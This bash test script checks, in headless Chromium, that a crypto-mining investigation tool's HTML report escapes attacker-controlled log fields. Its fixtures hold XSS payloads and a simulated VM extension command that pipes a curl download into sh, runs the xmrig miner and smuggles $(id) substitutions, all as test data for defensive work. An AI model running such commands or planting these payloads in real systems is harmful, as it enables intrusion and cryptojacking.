#!/usr/bin/env bash
# browser_report (ctest label "browser"): report.html in a real headless browser.
#
#   tests/browser/check_report.sh [MINETRACE_BINARY]
#
# Installs Debian's chromium when it is missing (scripts/install-deps chromium) and exits 77
# (ctest: skipped) with a message only when it cannot be installed. Then:
#   1. the demo investigation renders with no console message at all (the page has no script;
#      any console line would be an error, a CSP violation or a failed load), and the key facts
#      are in the DOM: a high-severity resource, its creator's app id, the subscription id and
#      who created the subscription in Partner Center;
#   2. logs whose resource names, commands, callers, customer and subscription names carry
#      markup produce no injected element: no <script>, <img>, <iframe>, no on* attribute, only
#      the elements report.html writes itself;
#   3. saves a screenshot of the demo report (1280x2000) to docs/report-screenshot.png when
#      MINETRACE_SCREENSHOT=1 (how the README's image is made).
set -euo pipefail
root="$(cd "$(dirname "$0")/../.." && pwd)"
bin="${1:-$root/build/release/app/minetrace}"
[ -x "$bin" ] || { echo "browser_report: minetrace binary not found: $bin" >&2; exit 1; }

browser=""
find_browser() {
  for b in chromium chromium-browser; do
    if command -v "$b" >/dev/null 2>&1; then browser="$b"; return 0; fi
  done
  return 1
}
if ! find_browser; then
  echo "browser_report: chromium missing; installing it with scripts/install-deps chromium" >&2
  if ! "$root/scripts/install-deps" chromium >&2 || ! find_browser; then
    echo "browser_report: SKIPPED: chromium could not be installed (no root, no apt-get or no" \
         "package mirror); install Debian's chromium to run this test" >&2
    exit 77
  fi
fi

tmp="$(mktemp -d)"
trap 'rm -rf "$tmp"' EXIT
failures=0
fail() { echo "browser_report: FAIL: $*" >&2; failures=$((failures + 1)); }
pass() { echo "browser_report: ok: $*"; }

# One headless run: $1 = mode (--dump-dom or --screenshot=FILE), $2 = page; DOM on stdout,
# browser log in $tmp/console.log. A fresh profile each time; no network services.
browse() {
  local profile
  profile="$(mktemp -d "$tmp/profile.XXXXXX")"
  timeout 120 "$browser" --headless --no-sandbox --disable-gpu --disable-quic --no-first-run \
    --disable-background-networking --disable-component-update --disable-sync \
    --user-data-dir="$profile" --enable-logging=stderr --v=0 --window-size=1280,2000 \
    "$1" "file://$2" 2>"$tmp/console.log"
}

# Console messages of the page (Chromium logs them as "INFO:CONSOLE:line]" or ":CONSOLE(line)]").
console_messages() { grep -E ':CONSOLE[:(]|Uncaught|Refused to|net::ERR_' "$tmp/console.log" || true; }

# Tag names in a serialized DOM, one per line. Text is serialized with < as &lt;, so every
# '<' left is markup.
tags() { grep -oE '<[A-Za-z][A-Za-z0-9-]*' "$1" | cut -c2- | tr 'A-Z' 'a-z' | sort -u; }
allowed="html head meta title style body main header nav a section h1 h2 h3 h4 p div span table
thead tbody tr th td ul ol li dl dt dd time pre code details summary article footer svg g line
path circle text br"

check_no_injection() { # $1 = dom file, $2 = label
  local t foreign=""
  for t in $(tags "$1"); do
    case " $(echo $allowed) " in *" $t "*) ;; *) foreign="$foreign $t" ;; esac
  done
  [ -z "$foreign" ] && pass "$2: only report.html's own elements" ||
    fail "$2: foreign elements in the DOM:$foreign"
  if grep -qiE '<[a-z][^>]*[[:space:]]on[a-z]+=' "$1"; then
    fail "$2: an on* event attribute in the DOM"
  else
    pass "$2: no event-handler attribute"
  fi
}

# --- 1. the demo investigation -------------------------------------------------------------
demo="$tmp/demo"
set +e
"$bin" investigate "$root/fixtures/scenarios/intrusion/export-jsonl" \
  "$root/fixtures/scenarios/intrusion/partner-center" --out "$demo" -q >/dev/null
code=$?
set -e
[ "$code" -eq 0 ] || [ "$code" -eq 3 ] || { echo "browser_report: investigate failed ($code)" >&2; exit 1; }

browse --dump-dom "$demo/report.html" >"$tmp/demo.dom" || fail "chromium exited with an error"
if grep -q '</html>' "$tmp/demo.dom" && grep -q 'Crypto-mining provenance report' "$tmp/demo.dom"; then
  pass "demo report renders ($(wc -c <"$tmp/demo.dom") bytes of DOM)"
else
  fail "demo report did not render"
fi
msgs="$(console_messages)"
[ -z "$msgs" ] && pass "no console messages" || fail "console messages: $msgs"

# The facts, taken from the machine-readable outputs of the same run.
vm_line="$(grep -m1 -E '"resource_type": "microsoft.compute/virtualmachines".*"severity": "high"' \
  "$demo/resources.jsonl" || true)"
high_name="$(printf '%s' "$vm_line" | sed 's/^{"resource_id": "[^"]*", "name": "\([^"]*\)".*/\1/')"
creator_app="$(printf '%s' "$vm_line" | sed 's/.*"created_by": {[^}]*"app_id": "\([^"]*\)".*/\1/')"
for fact in "$high_name" "$creator_app" 96e4a4ce-bb6e-415e-bc64-1774bbd140fd \
            23796c67-2f4b-4feb-b0fe-60d76b018983 admin@northwindcsp.onmicrosoft.com \
            "Fabrikam Production"; do
  if [ -n "$fact" ] && grep -qF -- "$fact" "$tmp/demo.dom"; then
    pass "fact in the DOM: $fact"
  else
    fail "fact missing from the DOM: '$fact'"
  fi
done
grep -q '<svg' "$tmp/demo.dom" && grep -q '<circle' "$tmp/demo.dom" &&
  pass "timeline chart present" || fail "timeline chart missing"
check_no_injection "$tmp/demo.dom" "demo"

# --- 2. markup in attacker-controlled fields -----------------------------------------------
inject="$tmp/inject-logs"
mkdir -p "$inject"
sub="0badc0de-2f4b-4feb-b0fe-60d76b018983"
tenant="8e744963-e906-4d46-a7e4-bcf85c07368a"
vm="/SUBSCRIPTIONS/$sub/RESOURCEGROUPS/RG-<b>X/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINES"
claims='"claims":{"appid":"0badc0de-0000-4000-8000-000000000001","appidacr":"1","idtyp":"app","name":"<script>alert(4)<\/script>","ipaddr":"198.51.100.66","http://schemas.microsoft.com/identity/claims/objectidentifier":"0badc0de-0000-4000-8000-000000000002","http://schemas.microsoft.com/identity/claims/tenantid":"'$tenant'"}'
body='{\"location\":\"eastus<img src=x onerror=alert(5)>\",\"tags\":{\"<script>alert(6)</script>\":\"\\\"><iframe srcdoc=x>\"},\"properties\":{\"hardwareProfile\":{\"vmSize\":\"Standard_NC24ads_A100_v4\"},\"priority\":\"Spot\",\"billingProfile\":{\"maxPrice\":-1}}}'
ext='{\"location\":\"eastus\",\"properties\":{\"publisher\":\"Microsoft.Azure.Extensions\",\"type\":\"CustomScript\",\"settings\":{\"commandToExecute\":\"bash -c \\\"curl http://198.51.100.66/x | sh; ./xmrig -o stratum+tcp://pool:3333 <script>alert(7)</script> <img src=x onerror=alert(8)> $(id) `id`\\\"\"}}}'
record() { # time, resource id, operation, resultType, extra properties
  printf '{"time":"%s","resourceId":"%s","operationName":"%s","category":"Administrative","resultType":"%s","callerIpAddress":"198.51.100.66","correlationId":"%s","identity":{%s},"level":"Information","properties":{%s},"tenantId":"%s"}\n' \
    "$1" "$2" "$3" "$4" "$6" "$claims" "$5" "$tenant"
}
{
  record 2026-10-12T08:20:21.0000000Z "$vm/<img src=x onerror=alert(1)>" \
    MICROSOFT.COMPUTE/VIRTUALMACHINES/WRITE Start "\"requestbody\":\"$body\"" \
    aaaaaaaa-0000-4000-8000-000000000001
  record 2026-10-12T08:20:25.0000000Z "$vm/<img src=x onerror=alert(1)>" \
    MICROSOFT.COMPUTE/VIRTUALMACHINES/WRITE Success '"statusCode":"Created"' \
    aaaaaaaa-0000-4000-8000-000000000001
  record 2026-10-12T08:30:00.0000000Z "$vm/<img src=x onerror=alert(1)>/EXTENSIONS/"'\"><svg onload=alert(2)>' \
    MICROSOFT.COMPUTE/VIRTUALMACHINES/EXTENSIONS/WRITE Start "\"requestbody\":\"$ext\"" \
    aaaaaaaa-0000-4000-8000-000000000002
  record 2026-10-12T08:30:09.0000000Z "$vm/<img src=x onerror=alert(1)>/EXTENSIONS/"'\"><svg onload=alert(2)>' \
    MICROSOFT.COMPUTE/VIRTUALMACHINES/EXTENSIONS/WRITE Success '"statusCode":"OK"' \
    aaaaaaaa-0000-4000-8000-000000000002
} >"$inject/activity.jsonl"
# A Partner Center record with markup in the customer and subscription names.
printf '%s\n' '{"id":"x","partnerId":"c97f49aa-3801-4f57-a9af-ac93dd4cbe83","customerId":"'$tenant'","customerName":"<script>alert(9)</script>","userPrincipalName":"<img src=x onerror=alert(10)>@example.com","resourceType":"order","operationType":"create_order","operationDate":"2026-09-01T09:31:05.1934822Z","operationStatus":"succeeded","customizedData":[{"key":"SubscriptionId-0","value":"'$sub'"},{"key":"SubscriptionName-0","value":"<iframe src=javascript:alert(11)>"}]}' \
  >"$inject/partner-center.jsonl"

set +e
"$bin" investigate "$inject" --out "$tmp/inject" -q >/dev/null 2>"$tmp/inject.err"
code=$?
set -e
[ "$code" -eq 0 ] || [ "$code" -eq 3 ] || { cat "$tmp/inject.err" >&2; echo "browser_report: investigate failed ($code)" >&2; exit 1; }
grep -q 'onerror=alert(1)' "$tmp/inject/resources.jsonl" ||
  fail "the injection fixture did not produce its finding (check the record shape)"
grep -q 'xmrig' "$tmp/inject/report.html" || fail "the injected command is not in the report"

browse --dump-dom "$tmp/inject/report.html" >"$tmp/inject.dom" || fail "chromium exited with an error"
grep -q '</html>' "$tmp/inject.dom" && pass "injection report renders" || fail "injection report did not render"
msgs="$(console_messages)"
[ -z "$msgs" ] && pass "injection: no console messages" || fail "injection: console messages: $msgs"
check_no_injection "$tmp/inject.dom" "injection"
for marker in 'onerror=alert(1)' 'onload=alert(2)' 'onerror=alert(5)' 'alert(7)' 'alert(9)' \
              'alert(11)'; do
  grep -qF -- "$marker" "$tmp/inject.dom" && pass "injection: '$marker' shown as text" ||
    fail "injection: '$marker' missing from the page text"
done

# --- 3. the README screenshot ----------------------------------------------------------------
if [ "${MINETRACE_SCREENSHOT:-0}" = 1 ]; then
  browse "--screenshot=$root/docs/report-screenshot.png" "$demo/report.html" >/dev/null
  pass "screenshot: docs/report-screenshot.png ($(wc -c <"$root/docs/report-screenshot.png") bytes)"
fi

if [ "$failures" -gt 0 ]; then
  echo "browser_report: $failures check(s) failed" >&2
  exit 1
fi
echo "browser_report: all checks passed"
